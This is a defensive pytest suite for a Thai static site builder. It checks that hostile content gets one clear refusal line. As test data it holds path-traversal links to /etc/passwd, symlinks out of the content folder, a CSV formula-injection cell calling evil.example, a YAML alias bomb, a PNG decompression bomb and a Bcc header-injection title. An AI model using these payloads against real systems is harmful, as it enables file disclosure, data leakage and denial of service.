"""Issue 9: nothing outside content/ is published, and hostile or careless content ends in a clear line.

Every test drives the real pelican command or `make check` (khaosan-check) on a content folder in a tmp
folder, as a communicator would, and checks: the message names the file (and line), the exit status,
no traceback, and that a refused build leaves the last good output byte-identical.
"""
from __future__ import annotations

import io
import json
import os
import re
import resource
import struct
import subprocess
import time
import zlib
from pathlib import Path

import feedparser
import pytest

from sitebuilder import ROOT, build, settings_file, tiny_jpeg, write_content

CHECK = ROOT / ".venv" / "bin" / "khaosan-check"
SECRET = "PRIVATE-0812345678"
REPORT = "---\ntitle: รายงาน\ndate: 2566-05-05\nprovinces: [nakhon-phanom]\n---\nเนื้อหา\n"
PAGE = "---\ntitle: เกี่ยวกับเรา\n---\nเนื้อหา\n"


def report(body="เนื้อหา", **fields) -> str:
    lines = {"title": "รายงาน", "date": "2566-05-05", **fields}
    return "---\n" + "".join(f"{k}: {v}\n" for k, v in lines.items()) + "---\n" + body + "\n"


def check(tmp_path: Path, *args, env=None, timeout=20):
    started = time.monotonic()
    proc = subprocess.run([str(CHECK), str(tmp_path / "content"), *args], cwd=tmp_path, capture_output=True, text=True,
                          timeout=timeout, env={**os.environ, "PYTHAINLP_READ_ONLY": "1", **(env or {})})
    proc.seconds = time.monotonic() - started
    return proc


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def everything(folder: Path) -> bytes:
    return b"".join(snapshot(folder).values()) if folder.exists() else b""


@pytest.fixture
def good_site(tmp_path):
    """A content folder that builds, and its output: a refused build must leave that output as it was."""
    write_content(tmp_path / "content", {"reports/good.th.md": REPORT, "pages/about.th.md": PAGE})
    result = build(tmp_path, content=tmp_path / "content")
    assert result.returncode == 0, result.stderr
    return tmp_path, snapshot(result.output)


def refused_build(tmp_path, before, files, *words, settings="pelicanconf.py", env=None):
    write_content(tmp_path / "content", files)
    started = time.monotonic()
    result = build(tmp_path, content=tmp_path / "content", settings=settings, env=env)
    seconds = time.monotonic() - started
    assert result.returncode != 0, result.stderr
    text = result.stderr + result.stdout
    assert "Traceback" not in text, text
    for word in words:
        assert re.search(word, text), (word, text)
    assert snapshot(result.output) == before, "the last good output changed"
    assert seconds < 20 + 10, seconds  # 20 s for the build, some for the interpreter under a loaded machine
    return result


# Class 2: every path a content file names stays inside content/ -------------------------------------------

@pytest.mark.parametrize("link", ["{attach}../../../../../../../../etc/passwd", "{static}/../secret.txt",
                                  "{static}/../../secret.txt", "{filename}/../secret.txt", "|static|/../secret.txt"])
def test_links_to_files_outside_the_content_are_refused(good_site, link):
    tmp_path, before = good_site
    (tmp_path / "secret.txt").write_text(SECRET, encoding="utf-8")
    (tmp_path.parent / "secret.txt").write_text(SECRET, encoding="utf-8")
    files = {"reports/leak.th.md": report(f"บรรทัดแรก\n\n[ดาวน์โหลด]({link})")}
    refused_build(tmp_path, before, files, r"content/reports/leak\.th\.md:7: body: the link .* outside the content folder")
    assert SECRET.encode() not in everything(tmp_path / "output")
    assert not (tmp_path / "output.building").exists()
    proc = check(tmp_path)
    assert proc.returncode == 1 and "leak.th.md:7: body:" in proc.stdout


def test_pictures_named_outside_the_content_are_refused(good_site):
    tmp_path, before = good_site
    (tmp_path / "private.jpg").write_bytes(tiny_jpeg())
    files = {"reports/cover.th.md": report(cover="../../private.jpg"),
             "reports/body.th.md": report("![x](../../private.jpg)")}
    refused_build(tmp_path, before, files, r"cover\.th\.md:4: cover: picture \"../../private.jpg\" is outside the content folder",
                  r"body\.th\.md:5: body: picture \"../../private.jpg\" is outside the content folder")


# Class 3: links that leave content/, and files that are not regular files ------------------------------------

def test_symbolic_links_that_leave_the_content_are_refused(good_site):
    tmp_path, before = good_site
    private = tmp_path / "private"
    private.mkdir()
    (private / "contacts.jpg").write_bytes(tiny_jpeg())
    (private / "notes.pdf").write_bytes(b"%PDF-1.4 " + SECRET.encode())
    content = tmp_path / "content"
    (content / "images").mkdir(exist_ok=True)
    (content / "images" / "shared").symlink_to(private, target_is_directory=True)
    (content / "images" / "one.jpg").symlink_to(private / "contacts.jpg")
    result = refused_build(tmp_path, before, {}, r"content/images/shared:1: folder: is a link to .*outside the content folder",
                           r"content/images/one\.jpg:1: file: is a link to .*outside the content folder")
    assert SECRET.encode() not in everything(result.output)


def test_a_link_to_a_device_does_not_hang_the_check_or_the_build(good_site):
    tmp_path, before = good_site
    (tmp_path / "content" / "reports" / "zero.th.md").symlink_to("/dev/zero")
    (tmp_path / "content" / "images").mkdir(exist_ok=True)
    (tmp_path / "content" / "images" / "zero.jpg").symlink_to("/dev/zero")
    proc = check(tmp_path)
    assert proc.returncode == 1 and proc.seconds < 20
    assert re.search(r"reports/zero\.th\.md:1: file: is (a link to .*outside the content folder|not a regular file)", proc.stdout), proc.stdout
    refused_build(tmp_path, before, {}, r"zero\.th\.md:1: file:")


def test_links_inside_the_content_folder_are_published(tmp_path):
    content = write_content(tmp_path / "content", {"pages/about.th.md": PAGE.replace("เนื้อหา", "![ป้าย](../images/alias.jpg)"),
                                                    "images/real.jpg": tiny_jpeg()})
    (content / "images" / "alias.jpg").symlink_to(content / "images" / "real.jpg")
    result = build(tmp_path, content=content)
    assert result.returncode == 0, result.stderr
    assert (result.output / "images" / "alias.jpg").is_file()


# Class 4: editor and system litter ---------------------------------------------------------------------------

LITTER = ["reports/good.th.md~", "reports/good.md.bak", "reports/.good.th.md", "reports/.good.th.md.swp",
          ".DS_Store", "images/Thumbs.db", ".git/config", "images/._photo.jpg", "reports/#good.th.md#"]


def test_editor_and_system_litter_is_never_published_and_check_names_it_once(tmp_path):
    files = {"reports/good.th.md": REPORT, "pages/about.th.md": PAGE}
    files.update({rel: REPORT + f"\nติดต่อ {SECRET}\n" for rel in LITTER})
    write_content(tmp_path / "content", files)
    result = build(tmp_path, content=tmp_path / "content")
    assert result.returncode == 0, result.stderr
    assert SECRET.encode() not in everything(result.output)
    for rel in LITTER:
        assert not (result.output / rel).exists(), rel
    proc = check(tmp_path)
    assert proc.returncode == 0, proc.stdout
    skipped = [line for line in proc.stdout.splitlines() if line.startswith("skipped")]
    assert len(skipped) == 1, proc.stdout
    named = skipped[0].split(": ", 1)[1].split(", ")
    assert sorted(named) == sorted(".git/" if rel.startswith(".git/") else rel for rel in LITTER), skipped[0]


# Class 8: slugs that would replace a part of the site --------------------------------------------------------

@pytest.mark.parametrize("rel,slug", [("pages/x.th.md", "data"), ("pages/x.th.md", "en"), ("pages/x.en.md", "reports"),
                                      ("pages/x.th.md", "search"), ("pages/x.th.md", "admin"), ("pages/x.th.md", "pagefind"),
                                      ("pages/x.th.md", "health-regions"), ("pages/x.th.md", "theme"),
                                      ("reports/x.th.md", "page")])
def test_reserved_slugs_are_refused(good_site, rel, slug):
    tmp_path, before = good_site
    text = (PAGE if rel.startswith("pages") else REPORT).replace("---\n", f"---\nslug: {slug}\n", 1)
    refused_build(tmp_path, before, {rel: text}, rf"content/{re.escape(rel)}:2: slug: \"{slug}\" is the address of")


def test_every_generated_top_folder_is_reserved(bundled_site):
    from khaosan import url_scheme
    for name in os.listdir(bundled_site.output):
        if (bundled_site.output / name).is_dir() and not (ROOT / "content" / "pages" / f"{name}.th.md").exists():
            assert name in url_scheme.RESERVED_SLUGS, name


# Class 9: CSV formula injection --------------------------------------------------------------------------------

def test_csv_cells_that_would_run_as_formulas_are_neutralised(tmp_path):
    partner = ("---\ntitle: '=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")'\nshort_name: '@SUM(1+1)'\n"
               "type: government\nphone: '+66 42 511 000'\naddress: '-2+3'\nprovinces: [bangkok]\n---\nภาคี\n")
    result = build(tmp_path, {"partners/evil.th.md": partner, "reports/r.th.md": report(partners="[evil]")})
    assert result.returncode == 0, result.stderr
    csv_text = (result.output / "data" / "partners.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in csv_text and "'@SUM(1+1)" in csv_text and "'+66 42 511 000" in csv_text and "'-2+3" in csv_text
    assert not re.search(r'(^|,)"?[=+@-]', csv_text.split("\n", 1)[1], re.M), csv_text
    records = json.loads((result.output / "data" / "partners.json").read_text(encoding="utf-8"))
    evil = next(r for r in records if r["slug"] == "evil")
    assert evil["name_th"].startswith("=HYPERLINK") and evil["phone"] == "+66 42 511 000"


# Class 10: small input, big damage ------------------------------------------------------------------------------

ALIAS_BOMB = """\
---
title: bomb
date: 2566-05-05
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
objectives: [*h,*h,*h,*h,*h,*h,*h,*h,*h]
---
body
"""


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares a huge picture (a decompression bomb)."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b""))


HOSTILE = {
    "alias-bomb": ({"reports/bomb.th.md": ALIAS_BOMB}, r"bomb\.th\.md:\d+: front matter: expands to more than"),
    "brackets": ({"reports/deep.th.md": "---\ntitle: x\ndate: 2566-05-05\nobjectives: " + "[" * 30000 + "\n---\nbody\n"},
                 r"deep\.th\.md:4: front matter: (nests|not valid YAML)"),
    "emphasis": ({"reports/stars.th.md": report("ย่อหน้าแรก\n\n" + "*" * 3000 + "x" + "*" * 3000)},
                 r"stars\.th\.md:7: body: has a run of 3000 .\*. characters"),
    "spread-emphasis": ({"reports/spread.th.md": report("ย่อหน้าแรก\n\n" + "*a " * 3000 + "x" + " a*" * 3000)},
                        r"spread\.th\.md:7: body: nests emphasis, links or quotes too deeply"),
    "bomb-png": ({"images/bomb.png": png_declaring(30000, 30000), "reports/cover.th.md": report(cover="images/bomb.png")},
                 r"(images/bomb\.png:1: picture|cover\.th\.md:4: cover): .*900 megapixels.*more than the 100 megapixels"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_small_hostile_input_ends_in_one_clear_line(good_site, case):
    tmp_path, before = good_site
    files, expected = HOSTILE[case]
    refused_build(tmp_path, before, files, expected)
    proc = check(tmp_path)
    assert proc.returncode == 1 and proc.seconds < 20, proc.stdout
    assert re.search(expected, proc.stdout) and "Traceback" not in proc.stdout + proc.stderr, proc.stdout + proc.stderr
    peak_kb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    assert peak_kb < 1_000_000, f"a child used {peak_kb} KB"


NESTED_LIST = "* " * 3000 + "x"


def markdown_recurses_on(text: str) -> bool:
    """Whether this Python-Markdown runs out of stack on `text` (with the check's reduced room): 3.11.4
    reads a list nested 3,000 deep, earlier releases did not."""
    import sys

    import markdown
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(max(limit - 200, 200))
    try:
        markdown.markdown(text, extensions=["extra", "sane_lists", "toc"])
        return False
    except RecursionError:
        return True
    finally:
        sys.setrecursionlimit(limit)


def test_a_list_nested_thousands_deep_is_refused_with_its_line_or_published_whole(good_site):
    """Refused in one clear line where Markdown cannot read it (before 3.11.4); where it can, its text is all
    published."""
    tmp_path, before = good_site
    files = {"reports/list.th.md": report("ย่อหน้าแรก\n\n" + NESTED_LIST)}
    if markdown_recurses_on(NESTED_LIST):
        refused_build(tmp_path, before, files, r"list\.th\.md:7: body: nests emphasis, links or quotes too deeply")
        return
    write_content(tmp_path / "content", files)
    result = build(tmp_path, content=tmp_path / "content")
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    page = result.page("reports/list/")
    # The HTML parser behind the sanitiser stops nesting a few hundred deep; the text itself is all there.
    assert "ย่อหน้าแรก" in page and "x</li>" in page and page.count("<ul>") > 300
    proc = check(tmp_path)
    assert proc.returncode == 0 and proc.seconds < 20, proc.stdout + proc.stderr


def test_character_references_that_xml_cannot_carry_are_dropped(tmp_path):
    body = "ก่อน &#1; กลาง &#xFFFE; &#xB; &#0; &#xD800; หลัง"
    result = build(tmp_path, {"reports/refs.th.md": report(body)})
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    feed = feedparser.parse((result.output / "feed.xml").read_bytes())
    assert not feed.bozo, feed.bozo_exception
    assert "ก่อน" in feed.entries[0].content[0].value and "หลัง" in feed.entries[0].content[0].value


def test_a_title_with_line_breaks_is_one_line_everywhere(tmp_path):
    edition = ("---\ntitle: \"ฉบับ\\nที่ 1\\r\\nBcc: victim@example.org\"\ndate: 2566-06-01\nperiod: 2566-05\n---\nบทนำ\n")
    result = build(tmp_path, {"enews/one.th.md": edition, "reports/r.th.md": report(title='"หัวข้อ\\nสอง"')})
    assert result.returncode == 0, result.stderr
    email = (result.output / "enews" / "one" / "email.html").read_text(encoding="utf-8")
    assert re.search(r"<title>ฉบับ ที่ 1 Bcc: victim@example.org</title>", email), email[:400]
    text = (result.output / "enews" / "one" / "email.txt").read_text(encoding="utf-8")
    assert not re.search(r"^Bcc:", text, re.M)
    assert "<title>หัวข้อ สอง" in (result.output / "reports" / "r" / "index.html").read_text(encoding="utf-8")


# Class 11: dates ahead of the build ------------------------------------------------------------------------------

BUILD_DAY = {"SOURCE_DATE_EPOCH": "1704067200"}  # 2024-01-01 07:00 Bangkok


def test_a_date_more_than_a_year_ahead_is_an_error(good_site):
    tmp_path, before = good_site
    refused_build(tmp_path, before, {"reports/typo.th.md": report(date="2657-05-05")},
                  r"typo\.th\.md:3: date: 2114-05-05 is more than a year after the build's date \(2024-01-01\); check the year",
                  env=BUILD_DAY)


def test_an_item_dated_ahead_is_held_back_until_its_day(tmp_path):
    files = {"reports/now.th.md": report(title="วันนี้", date="2023-12-31"), "reports/soon.th.md": report(title="เร็วๆ นี้", date="2024-02-01")}
    write_content(tmp_path / "content", files)
    early = build(tmp_path, content=tmp_path / "content", env=BUILD_DAY)
    assert early.returncode == 0, early.stderr
    assert (early.output / "reports" / "now" / "index.html").is_file()
    assert not (early.output / "reports" / "soon").exists()
    assert "เร็วๆ นี้".encode() not in everything(early.output)
    proc = check(tmp_path, env=BUILD_DAY)
    assert proc.returncode == 0 and re.search(r"soon\.th\.md:3: held back until 2024-02-01", proc.stdout), proc.stdout
    later = build(tmp_path, content=tmp_path / "content", env={"SOURCE_DATE_EPOCH": "1706745600"})  # 2024-02-01 07:00
    assert later.returncode == 0, later.stderr
    assert (later.output / "reports" / "soon" / "index.html").is_file()


# Class 12: PDPA ---------------------------------------------------------------------------------------------------

def test_a_follow_up_contact_is_published_only_with_public_true(tmp_path):
    files = {"reports/hidden.th.md": report(followup_contact=f"คุณสมศรี {SECRET}"),
             "reports/shown.th.md": report(followup_contact="{name: คุณสมชาย, phone: '081 234 5678', public: true}")}
    result = build(tmp_path, files)
    assert result.returncode == 0, result.stderr
    assert SECRET.encode() not in everything(result.output)
    assert "คุณสมชาย" in (result.output / "reports" / "shown" / "index.html").read_text(encoding="utf-8")
    proc = check(tmp_path)
    assert re.search(r"hidden\.th\.md:4: followup_contact: not published", proc.stdout), proc.stdout


def test_a_close_up_without_consent_is_refused_when_the_setting_asks(good_site):
    tmp_path, before = good_site
    (tmp_path / "content" / "images").mkdir(exist_ok=True)
    (tmp_path / "content" / "images" / "face.jpg").write_bytes(tiny_jpeg())
    photos = "\n  - {src: images/face.jpg, alt: ใบหน้า, people: close-up}\n  - {src: images/face.jpg, alt: ok, people: close-up, consent: true}"
    files = {"reports/faces.th.md": report(photos=photos)}
    write_content(tmp_path / "content", files)
    relaxed = check(tmp_path)
    assert relaxed.returncode == 0, relaxed.stdout
    settings = settings_file(tmp_path / "strict.py", "PHOTO_CONSENT_REQUIRED = True\n")
    refused_build(tmp_path, before, {}, r"faces\.th\.md:5: photos: photo 1 \(images/face\.jpg\) is a close-up of people without consent: true",
                  settings=str(settings))
    strict = check(tmp_path, "-s", str(settings))
    assert strict.returncode == 1 and "faces.th.md:5: photos: photo 1" in strict.stdout, strict.stdout
    assert "photo 2" not in strict.stdout


# Class 13: the smaller ones ---------------------------------------------------------------------------------------

def test_an_unknown_field_fails_check_and_build_alike(good_site):
    tmp_path, before = good_site
    line = r'typo\.th\.md:4: provinse: unknown field for activity reports; did you mean "provinces"\?'
    refused_build(tmp_path, before, {"reports/typo.th.md": report(provinse="[bangkok]")}, line)
    proc = check(tmp_path)
    assert proc.returncode == 1 and re.search(line, proc.stdout), proc.stdout


def test_zero_participants_planned_prints_no_percentage(tmp_path):
    result = build(tmp_path, {"reports/zero.th.md": report(participants="{planned: 0, actual: 35}")})
    assert result.returncode == 0, result.stderr
    page = (result.output / "reports" / "zero" / "index.html").read_text(encoding="utf-8")
    assert "<b>35</b>" in page and "ร้อยละ" not in page


def test_a_text_file_named_like_a_picture_is_refused(good_site):
    tmp_path, before = good_site
    files = {"images/cover.jpg": "not a picture at all", "reports/c.th.md": report(cover="images/cover.jpg")}
    refused_build(tmp_path, before, files, r"c\.th\.md:4: cover: picture \"images/cover\.jpg\" is not a picture")


def test_a_huge_body_goes_to_feeds_as_its_summary_and_a_link(tmp_path):
    body = "\n\n".join(f"ย่อหน้าที่ {n} " + "ข้อความยาว " * 300 for n in range(60))
    result = build(tmp_path, {"reports/huge.th.md": report(body, summary="สรุปสั้น"), "reports/small.th.md": report("สั้น", title="เล็ก")})
    assert result.returncode == 0, result.stderr
    assert len((result.output / "reports" / "huge" / "index.html").read_bytes()) > 200_000
    feed = feedparser.parse((result.output / "feed.xml").read_bytes())
    huge = next(e for e in feed.entries if e.link.endswith("/reports/huge/"))
    assert len(huge.content[0].value) < 5000 and "สรุปสั้น" in huge.content[0].value and "/reports/huge/" in huge.content[0].value
    small = next(e for e in feed.entries if e.link.endswith("/reports/small/"))
    assert "สั้น" in small.content[0].value


def test_body_ids_never_duplicate_the_themes(tmp_path):
    result = build(tmp_path, {"reports/ids.th.md": report('<p id="main">หลัก</p>\n\n# Email\n\nข้อความ')})
    assert result.returncode == 0, result.stderr
    page = (result.output / "reports" / "ids" / "index.html").read_text(encoding="utf-8")
    ids = re.findall(r'\sid="([^"]+)"', page)
    assert len(ids) == len(set(ids)), sorted(i for i in ids if ids.count(i) > 1)


def test_bidi_and_invisible_characters_are_escaped_in_error_lines(tmp_path):
    write_content(tmp_path / "content", {"reports/trojan.th.md": report(**{"ti\u202etle\u200b": "x"})})
    proc = check(tmp_path)
    assert proc.returncode == 1
    assert "\u202e" not in proc.stdout and "\u200b" not in proc.stdout
    assert "ti\\u202etle\\u200b" in proc.stdout, proc.stdout
